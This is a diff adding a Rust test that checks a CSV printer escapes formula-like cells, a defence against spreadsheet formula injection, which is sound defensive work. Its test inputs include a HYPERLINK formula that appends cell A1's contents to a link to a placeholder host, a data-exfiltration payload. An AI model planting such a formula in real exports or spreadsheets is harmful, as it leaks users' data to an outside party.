@@ -191,6 +191,46 @@ fn programs_get_the_texts_back() {
     assert_eq!(back, texts);
 }
 
+/// Authors and texts of a csv, as a program reads them.
+fn cells(printer: Printer, events: &[Event]) -> Vec<[String; 2]> {
+    let (mut printer, mut out) = (printer, Vec::new());
+    printer.begin(&mut out);
+    events.iter().for_each(|event| printer.event(event, &mut out));
+    let mut reader = ::csv::Reader::from_reader(&out[..]);
+    reader.records().map(Result::unwrap).map(|record| [3, 4].map(|cell| record[cell].to_owned())).collect()
+}
+
+#[test]
+fn a_csv_is_exact_or_without_formulas() {
+    let day = "2026-11-21T08:15:02.123456+08:00";
+    let formulas = [
+        "=HYPERLINK(\"http://h/?\"&A1,\"look\")",
+        "+1",
+        "-2+3",
+        "- a list\n- of two",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠1",
+    ];
+    let texts = ["'=1", "a=1", " =1", "1-1", "今天\n=1", "", "'"];
+    let entries =
+        |texts: &[&str]| texts.iter().map(|text| entry(1, day, None, "=1+1", text)).collect::<Vec<_>>();
+    let csv = |csv_safe| Printer::of(Format::Csv, false, TimeZone::UTC, 0).without_formulas(csv_safe);
+    for (text, cells) in formulas.iter().zip(cells(csv(true), &entries(&formulas))) {
+        assert_eq!(cells, ["'=1+1".to_owned(), format!("'{text}")]);
+    }
+    for (text, cells) in texts.iter().zip(cells(csv(true), &entries(&texts))) {
+        assert_eq!(cells[1], *text, "it is no formula");
+    }
+    for (text, cells) in formulas.iter().zip(cells(csv(false), &entries(&formulas))) {
+        assert_eq!(cells, ["=1+1", text]);
+    }
+}
+
 fn text_of(event: Event) -> Option<String> {
     match event {
         Event::Entry(stored) => Some(stored.entry.text),
